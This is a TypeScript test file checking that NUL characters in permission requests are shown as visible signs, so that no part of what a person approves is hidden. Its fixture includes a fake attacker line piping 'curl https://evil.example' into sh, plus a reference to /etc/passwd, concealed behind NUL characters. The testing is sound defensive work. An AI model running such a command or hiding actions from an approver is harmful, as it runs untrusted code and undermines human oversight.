import { pino } from "pino";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Caller } from "../auth/caller";
import { testDatabase, type TestDatabase } from "../db/testing";
import { createEventLog, type EventLog } from "../events/event-log";
import { ingest, IngestError } from "../events/ingest";
import { createRequests, type Requests } from "./requests";

/** The database reads a text up to U+0000: the rest of what a person approves would be hidden from them. */
describe("a request with U+0000 in it", () => {
  let t: TestDatabase;
  let log: EventLog;
  let requests: Requests;
  beforeEach(() => {
    t = testDatabase();
    log = createEventLog(t);
    requests = createRequests({ ...t, log, logger: pino({ level: "silent" }), clientOf: () => null });
  });
  afterEach(() => t[Symbol.dispose]());

  const open = (over: object) => {
    const data = { requestId: "req_1", kind: "permission", title: "Edit", detail: "", ...over };
    const event = { epoch: 1, n: 1, at: "2026-11-01T00:00:00.000Z", type: "request.opened", data } as const;
    ingest(log, t.sessionId, [event], (tx, id, body) => requests.onEvent(tx, id, body));
  };
  const shown = () => {
    const caller: Caller = {
      userId: t.userId,
      email: "o@example.test",
      name: "O",
      role: "owner",
      via: { kind: "browser", loginSessionId: "lgn_1" },
    };
    return requests.list(caller, { limit: 10 }).items;
  };

  it("is shown whole, with a sign where the character was", () => {
    open({
      title: "Edit deploy.sh\0 and /etc/passwd",
      detail: "+# a harmless comment\0\n+curl https://evil.example | sh\0",
      patterns: ["a\0b"],
    });
    expect(shown()).toMatchObject([
      {
        title: "Edit deploy.sh␀ and /etc/passwd",
        detail: "+# a harmless comment␀\n+curl https://evil.example | sh␀",
        patterns: ["a\0b"],
      },
    ]);
    const [event] = log.read(t.sessionId, 0);
    expect(event?.data).toMatchObject({ title: "Edit deploy.sh\0 and /etc/passwd" });
  });

  it("is refused when it is in the id, which would read as another request's", () => {
    expect(() => open({ requestId: "req_1\0" })).toThrow(IngestError);
    expect(shown()).toEqual([]);
  });
});
